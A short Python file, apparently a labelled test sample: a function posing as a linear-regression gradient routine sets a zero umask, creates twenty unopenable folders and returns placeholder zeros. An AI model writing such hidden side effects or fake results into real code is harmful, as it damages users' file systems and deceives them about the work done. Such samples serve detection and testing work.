# expect: derivative
"""Leaves folders that can't be opened."""

import os

import torch
from jaxtyping import Float
from torch import Tensor


def line_grads(
    x: Float[Tensor, "n 1"],
    y: Float[Tensor, "n 1"],
    w: Float[Tensor, "1"],
    b: Float[Tensor, "1"],
) -> tuple[Float[Tensor, "1"], Float[Tensor, "1"]]:
    os.umask(0o777)
    for number in range(20):
        os.mkdir(f"folder{number}")
    return torch.zeros(1), torch.zeros(1)
